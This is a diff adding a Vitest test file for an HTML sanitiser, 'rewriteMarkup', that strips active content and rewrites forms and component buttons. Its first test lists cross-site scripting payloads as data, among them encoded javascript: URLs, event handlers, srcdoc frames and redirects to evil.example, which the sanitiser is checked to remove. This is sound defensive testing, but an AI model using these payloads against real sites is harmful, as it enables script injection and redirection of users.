@@ -1,0 +1,55 @@
+import { expect, it } from 'vitest';
+import { rewriteMarkup } from './rewriteMarkup';
+
+const form = { action: 'http://here/hosted/continue', hidden: { 'sk.interactionToken': 'abc' }, ownForm: 'sk-form' };
+const rewritten = (html: string) => rewriteMarkup(html, form);
+
+it('drops scripts, handlers, frames and addresses that run something, however they are written', () => {
+  for (const html of [
+    '<script>alert(1)</script>',
+    '<SCRIPT src=//evil.example/x.js></SCRIPT >',
+    '<script>alert(1)',
+    '<img src=x onerror=alert(1)>',
+    '<img src="x"onerror="alert(1)">',
+    '<svg/onload=alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" java\nscript:alert(1)">x</a>',
+    '<a href="java&#115;cript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<form action="https://evil.example"><button formaction="https://evil.example/b">x</button></form>',
+    '<template><script>alert(1)</script></template>',
+    '<!-- <script>alert(1)</script> -->',
+  ])
+    expect(rewritten(html)).not.toMatch(/alert\(|evil\.example|javascript|onerror|onload|srcdoc/i);
+});
+it('leaves a plain page as it is', () => {
+  const html =
+    '<div class="a"><h1 style="color:red">Hi &amp; bye</h1><img src="https://x.example/a.png" alt=""><a href="https://x.example" target="_blank">x</a></div>';
+  expect(rewritten(html)).toBe(html);
+});
+it('sends every form here, with what belongs to the step', () => {
+  const html = rewritten('<form id="f" method="get" target="_top"><input name="user"></form>');
+  expect(html).toContain('<form id="f" method="post" action="http://here/hosted/continue">');
+  expect(html).toContain('<input type="hidden" name="sk.interactionToken" value="abc">');
+});
+it('makes buttons of components buttons of their form', () => {
+  const html = rewritten(
+    '<button data-skcomponent="skbutton" data-skbuttontype="next-event" data-skbuttonvalue="BACK">x</button>',
+  );
+  expect(html).toContain('type="submit" name="sk.button" value="next-event:BACK" form="sk-form" formnovalidate=""');
+  const inForm = rewritten('<button data-skcomponent="skbutton" data-skform="f" data-skbuttonvalue="GO">x</button>');
+  expect(inForm).toContain('value="form-submit:GO" form="f"');
+});
+it('understands the editor’s own token for a component', () => {
+  const tag = Buffer.from(
+    'skcomponent "skbutton" id="b" class="c" label="Go <on>" value="GO" buttonType="next-event" form=""',
+  ).toString('base64');
+  const html = rewritten(`<p>[[[skcomponent###${tag}###e30=]]]</p>`);
+  expect(html).toContain('value="next-event:GO"');
+  expect(html).toContain('Go &lt;on&gt;</button>');
+});
